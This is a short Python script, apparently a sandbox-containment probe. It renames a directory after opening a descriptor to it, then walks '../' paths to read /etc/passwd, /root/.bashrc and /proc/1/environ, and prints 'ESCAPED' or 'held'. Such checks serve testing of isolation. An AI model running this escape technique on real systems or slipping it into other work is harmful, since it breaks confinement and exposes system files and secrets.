# Climbs out of its folders, by descriptors of folders that are moved meanwhile.
import os
os.makedirs("/tmp/a/b/c")
inside = os.open("/tmp/a/b/c", os.O_RDONLY | os.O_DIRECTORY)
os.rename("/tmp/a/b/c", "/tmp/c")
found = []
for start in (inside, os.open("/tmp", os.O_RDONLY), os.open(".", os.O_RDONLY)):
    for depth in range(1, 12):
        for name in ("etc/passwd", "etc/hostname", "root/.bashrc", "proc/1/environ"):
            try:
                found.append(os.read(os.open("../" * depth + name, os.O_RDONLY, dir_fd=start), 20))
            except OSError:
                pass
print("ESCAPED" if found else "held")
